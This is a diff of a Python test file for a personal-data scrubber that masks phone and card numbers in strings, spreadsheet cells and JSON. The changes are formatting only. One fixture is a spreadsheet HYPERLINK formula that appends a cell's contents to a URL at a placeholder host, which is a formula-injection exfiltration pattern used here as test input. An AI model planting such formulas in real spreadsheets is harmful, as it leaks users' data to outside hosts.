@@ -34,7 +34,10 @@ MASKED = [
     ("6222021234567890123", MASK),
     ("6222 0212 3456 7890", MASK),
     ("6222-0212-3456-7890-123", MASK),
-    ("=HYPERLINK(\"http://x/?\"&B7,\"核对 13812345678\")", f'=HYPERLINK("http://x/?"&B7,"核对 {MASK}")'),
+    (
+        '=HYPERLINK("http://x/?"&B7,"核对 13812345678")',
+        f'=HYPERLINK("http://x/?"&B7,"核对 {MASK}")',
+    ),
     ("负责人张三 13812345678、李四 13912345678", f"负责人张三 {MASK}、李四 {MASK}"),
 ]
 
@@ -83,4 +86,7 @@ def test_numbers_in_cells():
 
 def test_json_tree():
     data = {"name": "活动 13812345678", "rows": [{"invoice_no": "03100190"}, 5, None]}
-    assert scrub_data(data) == {"name": f"活动 {MASK}", "rows": [{"invoice_no": "03100190"}, 5, None]}
+    assert scrub_data(data) == {
+        "name": f"活动 {MASK}",
+        "rows": [{"invoice_no": "03100190"}, 5, None],
+    }
